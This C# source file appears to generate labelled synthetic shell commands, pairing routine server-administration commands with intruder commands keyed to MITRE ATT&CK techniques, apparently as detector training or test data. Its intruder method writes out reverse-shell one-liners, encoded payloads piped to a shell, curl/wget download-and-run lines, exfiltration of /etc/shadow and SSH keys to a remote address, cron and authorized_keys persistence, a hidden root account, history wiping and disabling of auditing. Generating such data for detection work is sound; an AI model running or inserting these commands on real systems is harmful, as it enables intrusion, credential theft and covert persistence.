namespace StreamLstm.Backtesting.Demonstrations;

/// <summary>What an administrator types, by a grammar of tools, options, hosts and paths; and what an intruder does on the same computer.</summary>
/// <remarks>
/// Both use the same tools: an administrator has base64, nc, python3, curl, digests and random names too. The intruder's are what MITRE ATT&amp;CK lists under
/// T1059.004, T1027, T1105, T1003.008, T1053.003 and T1098.004, written from their descriptions.
/// </remarks>
internal sealed class ShellCommands(Random random)
{
    private static readonly string[] Services = ["nginx", "postgresql", "redis", "sshd", "grafana", "prometheus", "rabbitmq", "haproxy", "cron", "docker", "fail2ban", "chrony"];
    private static readonly string[] Apps = ["shop", "billing", "search", "auth", "reports", "mailer", "gateway", "images"];
    private static readonly string[] Hosts = ["web1", "web2", "db1", "db2", "cache1", "build", "backup", "mon1", "edge1"];
    private static readonly string[] Users = ["deploy", "anna", "root", "backup", "lukas", "postgres"];
    private static readonly string[] Files = ["app.conf", "settings.yml", "hosts", "site.conf", "users.csv", "export.json", "notes.txt", "schema.sql", "access.log"];
    private static readonly string[] Terms = ["error", "timeout", "refused", "warning", "upstream", "listen", "max_connections", "denied", "oom"];
    private static readonly string[] Packages = ["nginx", "htop", "jq", "openssl", "postgresql-client", "redis-tools", "tcpdump", "rsync", "certbot"];
    private static readonly string[] Tables = ["orders", "customers", "sessions", "invoices", "jobs", "events"];

    /// <summary>What intruders' commands are for.</summary>
    public static readonly IReadOnlyList<string> Families = ["reverse shells", "encoded payloads", "downloads run at once", "looking around and staying"];

    /// <summary>An administrator's.</summary>
    public string Ordinary()
    {
        string service = random.Often(Services), app = random.Often(Apps), host = random.Often(Hosts), user = random.Often(Users);
        string file = random.Often(Files), path = Folder(app, service);
        return random.Next(32) switch
        {
            0 or 1 => $"systemctl {random.Often("status", "restart", "reload", "stop", "start")} {service}",
            2 or 3 => $"journalctl -u {service} {random.Often("-n 100", "-f", "--since '1 hour ago'", "--since today", "-p err")}",
            4 or 5 => $"tail -n {10 * random.Next(1, 40)} /var/log/{service}/{random.One("error", "access", "main")}.log{random.Often("", $" | grep -i {random.Often(Terms)}")}",
            6 => $"grep -rn '{random.Often(Terms)}' {path}",
            7 or 8 => $"ls {random.Often("-l", "-la", "-lh", "-lt")} {path}",
            9 => $"cd {path}",
            10 => $"cp {path}/{file} {path}/{file}.{random.Often("bak", "orig", Date())}",
            11 => $"scp {file} {user}@{host}:{path}/",
            12 or 13 => $"ssh {user}@{host}{random.Often("", " uptime", $" 'systemctl status {service}'", " df -h")}",
            14 => $"rsync -av --delete {path}/ {host}:{path}/",
            15 => $"git -C /srv/{app} {random.Often("pull", "status", $"log -n {random.Next(5, 30)} --oneline", $"checkout {random.Hex(7)}", $"commit -am 'set {random.Often(Terms)} of {service}'")}",
            16 or 17 => $"docker {random.Often("ps", $"logs --tail {50 * random.Next(1, 10)} {app}-{random.Next(1, 4)}", $"exec -it {app}-{random.Next(1, 4)} {random.One("sh", "bash")}", $"compose -f /srv/{app}/compose.yml up -d", $"pull registry.example/{app}@sha256:{random.Hex(16)}")}",
            18 => $"apt-get {random.Often($"install -y {random.Often(Packages)}", "update && apt-get upgrade -y", $"remove {random.Often(Packages)}")}",
            19 or 20 => $"curl {random.Often($"-s http://{host}:{Port()}/health", $"-fsS https://{host}.example/metrics | grep {random.Often(Terms)}", $"-o /tmp/{Archive()} https://mirror.example/{random.Often(Packages)}/{Archive()}")}",
            21 => random.Often($"tar -xzf /tmp/{Archive()} -C /opt", $"tar -czf /var/backups/{app}-{Date()}.tar.gz {path}"),
            22 => $"find {path} -name '*.{random.One("log", "gz", "tmp", "conf")}' -mtime +{random.Next(1, 60)}{random.Often("", " -delete", " | wc -l")}",
            23 => random.One($"chown -R {user}:{user} {path}", $"chmod {random.One("640", "755", "600")} {path}/{file}"),
            24 => random.Often("df -h", $"du -sh {path}/* | sort -h | tail -n 20", "free -m", "uptime"),
            25 => random.Often($"ps aux | grep {service}", $"kill -HUP {random.Next(400, 32_000)}", $"ss -tlnp | grep {Port()}"),
            26 => $"psql -U {user} -d {app} -c 'select count(*) from {random.Often(Tables)}'",
            27 => $"pg_dump -U {user} {app} | gzip > /var/backups/{app}-{Date()}.sql.gz",
            28 => random.One($"openssl x509 -in /etc/ssl/{host}.crt -noout -dates", $"nc -zv {host} {Port()}", $"dig +short {host}.example"),
            29 => random.One($"kubectl get secret {app} -o jsonpath='{{.data.token}}' | base64 -d", $"kubectl -n {app} rollout restart deploy/{app}", $"echo {random.Encoded(24)} | base64 -d | jq .exp"),
            30 => random.One($"python3 manage.py {random.One("migrate", "check", "clearsessions")}", $"python3 -m json.tool {path}/{file}", $"bash /srv/{app}/deploy.sh {Version()}"),
            _ => $"vim {path}/{file}",
        };
    }

    /// <summary>An intruder's, of one of <see cref="Families"/>.</summary>
    public string OfIntruder(int family)
    {
        string address = random.Address(), port = random.One("4444", "443", "9001", "53", $"{random.Next(1_024, 65_536)}");
        string shell = random.One("/bin/sh", "/bin/bash", "sh", "bash"), hidden = $"/{random.One("tmp", "dev/shm", "var/tmp")}/.{random.One("x", "cache", "sys", random.Hex(4))}";
        return family switch
        {
            0 => random.Next(7) switch
            {
                0 => $"{random.One("bash", "/bin/bash")} -i >& /dev/tcp/{address}/{port} 0>&1",
                1 => $"nc -e {shell} {address} {port}",
                2 => $"mkfifo {hidden}; {shell} -i < {hidden} 2>&1 | nc {address} {port} > {hidden}",
                3 => $"python3 -c 'import socket,os,pty;s=socket.create_connection((\"{address}\",{port}));[os.dup2(s.fileno(),i) for i in (0,1,2)];pty.spawn(\"{shell}\")'",
                4 => $"socat tcp:{address}:{port} exec:{shell},pty,stderr",
                5 => $"exec 5<>/dev/tcp/{address}/{port}; cat <&5 | {shell} >&5",
                _ => $"nohup {shell} -c '{shell} -i >& /dev/tcp/{address}/{port} 0>&1' &",
            },
            1 => random.Next(5) switch
            {
                0 => $"echo {random.Encoded(4 * random.Next(4, 16))} | base64 -d | {shell}",
                1 => $"{shell} -c \"$(echo {random.Encoded(4 * random.Next(3, 12))} | base64 -d)\"",
                2 => $"python3 -c \"exec(__import__('base64').b64decode('{random.Encoded(4 * random.Next(3, 12))}'))\"",
                3 => $"printf '{string.Concat(Enumerable.Range(0, random.Next(4, 14)).Select(_ => $"\\x{random.Hex(2)}"))}' | {shell}",
                _ => $"echo {random.Hex(2 * random.Next(6, 24))} | xxd -r -p | {shell}",
            },
            2 => random.Next(5) switch
            {
                0 => $"curl -{random.One("s", "fsSL", "k")} http://{address}/{random.One("i", "run", "init", random.Hex(5))}.sh | {shell}",
                1 => $"wget -qO- http://{address}:{port}/{random.Hex(6)} | {shell}",
                2 => $"curl -s http://{address}/{random.Hex(4)} -o {hidden}; chmod +x {hidden}; {hidden}",
                3 => $"wget http://{address}/{random.One("xmrig", "kworker", "sshd", random.Hex(6))} -O {hidden} && chmod 777 {hidden} && nohup {hidden} &",
                _ => $"(curl -s {address}/{random.Hex(4)} || wget -qO- {address}/{random.Hex(4)}) | {shell}",
            },
            _ => random.Next(9) switch
            {
                0 => $"cat /etc/{random.One("shadow", "passwd", "sudoers")} | nc {address} {port}",
                1 => "find / -perm -4000 -type f 2>/dev/null",
                2 => $"(crontab -l; echo '*/{random.Next(2, 30)} * * * * {hidden}') | crontab -",
                3 => $"echo 'ssh-rsa AAAA{random.Encoded(random.Next(12, 40))}' >> /root/.ssh/authorized_keys",
                4 => random.One("unset HISTFILE; history -c", "rm -f /root/.bash_history", "ln -sf /dev/null ~/.bash_history"),
                5 => $"useradd -o -u 0 -g 0 -M {random.One("sys", "mysql2", "support", "adm1")}",
                6 => $"grep -rl 'BEGIN RSA PRIVATE KEY' /home /root 2>/dev/null",
                7 => $"tar -cz /home /etc/ssh | curl -T - http://{address}:{port}/",
                _ => $"iptables -F; setenforce 0; pkill {random.One("auditd", "rsyslogd", "falco")}",
            },
        };
    }

    private string Folder(string app, string service) =>
        random.Often($"/srv/{app}", $"/etc/{service}", "/var/log", $"/var/lib/{service}", $"/srv/{app}/config", "/var/backups", $"/home/{random.Often(Users)}", "/opt", "/tmp");

    private string Port() => random.Often("8080", "443", "5432", "9090", "6379", "3000", "9100");

    private string Date() => $"2026{random.Next(1, 13):00}{random.Next(1, 29):00}";

    private string Version() => $"{random.Next(1, 4)}.{random.Next(0, 20)}.{random.Next(0, 10)}";

    private string Archive() => $"{random.Often(Packages)}-{Version()}.tar.gz";
}
